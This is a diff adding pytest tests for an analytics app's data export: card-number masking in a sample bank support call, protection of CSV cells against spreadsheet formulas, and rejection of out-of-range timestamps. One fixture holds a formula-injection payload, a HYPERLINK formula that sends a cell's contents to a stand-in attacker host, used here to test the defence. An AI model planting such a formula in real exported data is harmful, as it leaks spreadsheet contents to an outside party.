@@ -18,9 +18,15 @@ from app.cli import app
 from app.config import get_settings
 from app.db.session import create_db_engine, make_session_factory, unit_of_work
 from app.export import COLUMNS, ExportError, ExportFormat, ExportWindow, export_bytes, parse_instant
+from app.llm.heuristic import HeuristicProvider
+from app.llm.prompt import PromptTemplate
 from app.models import Call, Claim
 from app.pipeline.calls import find_tenant
+from app.pipeline.run import process_call
+from app.pipeline.store import store_transcript
+from app.schemas.transcript import Role
 from tests.support.analytics import World, build_world
+from tests.support.transcripts import make_transcript
 
 
 @pytest.fixture
@@ -117,3 +123,49 @@ def test_cli_export_writes_each_format(sqlite_world: World, tmp_path: Path) -> N
     assert {json.loads(line)["call_id"] for line in result.stdout.splitlines()} == {sqlite_world.calls["globex"][1]}
     result = runner.invoke(app, ["export", "--tenant", "nope"])
     assert result.exit_code == 2
+
+
+CARD, MASKED_CARD = "4111 1111 1111 1111", "•••• •••• •••• 1111"
+FORMULA_ID = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+
+
+def _pii_call(factory: sessionmaker[Session]) -> None:
+    # A call whose reason quotes a card number, handed over with an external id a spreadsheet would run.
+    lines = [
+        (Role.agent, "Thank you for calling Northwind Bank, this is Dana. How can I help you today?"),
+        (Role.customer, f"Hi, my card {CARD} was charged twice and I need a refund."),
+        (Role.agent, "I see the double charge. I will refund it within 5 business days."),
+    ]
+    with unit_of_work(factory) as session:
+        call_id = store_transcript(session, make_transcript(lines, external_id=None), tenant="pii",
+                                   external_id=FORMULA_ID).call_id
+    process_call(factory, call_id, HeuristicProvider(), PromptTemplate.load(get_settings().prompts_dir,
+                                                                            get_settings().prompt_version))
+
+
+def test_texts_are_masked_unless_asked_unmasked(session_factory: sessionmaker[Session]) -> None:
+    _pii_call(session_factory)
+    masked = _export(session_factory, "pii", ExportFormat.jsonl).decode()
+    assert CARD not in masked and MASKED_CARD in masked
+    records = [json.loads(line) for line in masked.splitlines()]
+    assert any(MASKED_CARD in (record["text"] or "") for record in records)
+    assert any(MASKED_CARD in ev["quote"] for record in records for ev in record["evidence"])
+    with unit_of_work(session_factory) as session:
+        tenant = find_tenant(session, "pii")
+        assert tenant is not None
+        unmasked = b"".join(export_bytes(session, tenant.id, ExportFormat.jsonl, masked=False)).decode()
+    assert CARD in unmasked
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(session_factory: sessionmaker[Session]) -> None:
+    _pii_call(session_factory)
+    header, *rows = list(csv.reader(io.StringIO(_export(session_factory, "pii", ExportFormat.csv).decode())))
+    assert rows and all(row[header.index("external_id")] == "'" + FORMULA_ID for row in rows)
+    jsonl = [json.loads(line) for line in _export(session_factory, "pii", ExportFormat.jsonl).splitlines()]
+    assert {record["external_id"] for record in jsonl} == {FORMULA_ID}  # only CSV needs it
+
+
+@pytest.mark.parametrize("value", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
+def test_a_moment_outside_utcs_range_is_refused(value: str) -> None:
+    with pytest.raises(ExportError, match="out of the representable range"):
+        parse_instant(value, "since")
